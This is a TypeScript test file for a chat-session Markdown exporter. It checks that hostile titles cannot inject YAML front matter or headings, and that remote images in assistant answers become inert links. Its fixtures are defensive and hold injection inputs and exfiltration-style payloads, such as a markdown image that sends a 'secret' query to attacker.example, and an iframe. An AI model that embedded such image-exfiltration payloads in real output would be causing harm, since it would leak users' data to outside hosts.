// The exported note: one-line titles, front matter that is valid YAML for any title, and remote
// images that stay links (opening the note loads nothing from the network).
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { ChatMessage, Session } from "../../src/core/types";
import { oneLineTitle, sessionToMarkdown } from "../../src/sessions/markdown";
import { exportSafeMarkdown, findRemoteLoads } from "../../src/sessions/remoteImages";

function session(title: string, messages: Partial<ChatMessage>[] = []): Session {
	return {
		id: "s1",
		title,
		createdAt: "2024-05-01T10:00:00.000Z",
		updatedAt: "2024-05-01T10:05:00.000Z",
		messages: messages.map((m, i) => ({ id: `m${i}`, role: "assistant", content: "", createdAt: "2024-05-01T10:00:00.000Z", ...m })),
	};
}

const YAML_ESCAPES: Record<string, string> = { "0": "\0", a: "\x07", b: "\b", t: "\t", "\t": "\t", n: "\n", v: "\v", f: "\f", r: "\r", e: "\x1b", " ": " ", '"': '"', "/": "/", "\\": "\\", N: "\x85", _: "\xa0", L: "\u2028", P: "\u2029" };
/** YAML 1.2's printable characters: anything else (C0, DEL, C1, lone surrogates) must be escaped. */
const NOT_PRINTABLE = /[^\t\n\r\x20-\x7e\x85\xa0-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u;

/** A one-line YAML double-quoted scalar, read by YAML 1.2's rules (a minimal reader, for the test). */
function yamlDoubleQuoted(text: string): string {
	const m = /^"((?:[^"\\]|\\.)*)"$/su.exec(text);
	if (!m) throw new Error(`not one double-quoted scalar: ${text}`);
	const body = m[1] ?? "";
	if (NOT_PRINTABLE.test(body)) throw new Error(`raw non-printable character in ${JSON.stringify(body)}`);
	return body.replace(/\\(x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|.)/gsu, (_, e: string) => {
		if (/^[xuU]/.test(e)) return String.fromCodePoint(parseInt(e.slice(1), 16));
		const out = YAML_ESCAPES[e];
		if (out === undefined) throw new Error(`not a YAML escape: \\${e}`);
		return out;
	});
}

/** The front matter's fields: each line `key: value`, quoted values read as YAML reads them. */
function frontMatter(md: string): Record<string, unknown> {
	const m = /^---\n([\s\S]*?)\n---\n/.exec(md);
	if (!m) throw new Error("no front matter");
	const fields: Record<string, unknown> = {};
	for (const line of (m[1] ?? "").split("\n")) {
		const field = /^([a-z]+): (.*)$/.exec(line);
		if (!field) throw new Error(`not a front matter field: ${JSON.stringify(line)}`);
		const value = field[2] ?? "";
		fields[field[1] ?? ""] = value.startsWith('"') ? yamlDoubleQuoted(value) : /^\d+$/.test(value) ? Number(value) : /^[a-z-]+$/.test(value) ? value : `unquoted: ${value}`;
	}
	return fields;
}

describe("exported note front matter and title", () => {
	it("a title with newlines stays one line: no injected headings or front matter", () => {
		const md = sessionToMarkdown(session("Plan\n---\nevil: true\n# Injected\n\n## You"));
		const fm = frontMatter(md);
		expect(fm.title).toBe("Plan --- evil: true # Injected ## You");
		expect(fm).not.toHaveProperty("evil");
		expect(md.match(/^# /gm)).toHaveLength(1);
		expect(md.match(/^---$/gm)).toHaveLength(2);
		expect(md).toContain("\n# Plan --- evil: true # Injected ## You\n");
	});

	it("created, updated and session are quoted strings", () => {
		const md = sessionToMarkdown(session("t"));
		expect(md).toContain('created: "2024-05-01T10:00:00.000Z"\nupdated: "2024-05-01T10:05:00.000Z"\n');
		const fm = frontMatter(md);
		expect(fm).toMatchObject({ created: "2024-05-01T10:00:00.000Z", updated: "2024-05-01T10:05:00.000Z", session: "s1", messages: 0, source: "discover-chat" });
	});

	it("property: for any title the front matter is YAML giving back the exact one-line title", () => {
		const hostile = fc.constantFrom('"', "'", ":", ": ", "\\", "- ", "#", " #", "\n", "\r\n", "\u2028", "\u0085", "\u007f", "\ufeff", "\ud800", "---", "{", "[", "&a", "*a", "!x", "%", "@", "`", "|", ">", "\t", "\u0000");
		const title = fc.oneof(fc.string({ unit: "binary", maxLength: 40 }), fc.array(fc.oneof(hostile, fc.string({ maxLength: 3 })), { maxLength: 12 }).map((p) => p.join("")));
		fc.assert(
			fc.property(title, (t) => {
				const md = sessionToMarkdown(session(t));
				const expected = oneLineTitle(t);
				expect(expected).not.toMatch(/[\n\r\u2028\u2029]/);
				expect(frontMatter(md).title).toBe(expected);
				// The body's heading is the same single line.
				expect(md.split("\n---\n")[1]?.split("\n").filter((l) => l.startsWith("# "))).toHaveLength(1);
			}),
			{ numRuns: 200 },
		);
	});
});

describe("remote images in exported notes", () => {
	it("become plain links; vault and data: images, and code blocks, stay as written", () => {
		const answer = [
			"![chart](https://attacker.example/?q=secret) and ![](//attacker.example/p.png)",
			'<img src="https://attacker.example/h.png" alt="logo">',
			"![ok](Pics/ok.png) ![[local.png]] ![d](data:image/png;base64,AAAA)",
			'```html\n<img src="https://example.org/in-code.png">\n```',
		].join("\n\n");
		const md = sessionToMarkdown(session("t", [{ content: answer }]));
		expect(md).toContain("[chart](<https://attacker.example/?q=secret>) and [Image from attacker.example](<//attacker.example/p.png>)");
		expect(md).toContain("[logo](<https://attacker.example/h.png>)");
		expect(md).toContain("![ok](Pics/ok.png) ![[local.png]] ![d](data:image/png;base64,AAAA)");
		expect(md).toContain('```html\n<img src="https://example.org/in-code.png">\n```');
		// What is left outside code loads nothing: no image or tag could form.
		expect(findRemoteLoads(md).filter((l) => l.kind !== "autolink")).toEqual([]);
	});

	it("an HTML tag that could load something gets an invisible break after its <", () => {
		expect(exportSafeMarkdown('<iframe src="https://attacker.example/f"></iframe> <br>')).toBe('<\u200biframe src="https://attacker.example/f"><\u200b/iframe> <br>');
	});
});
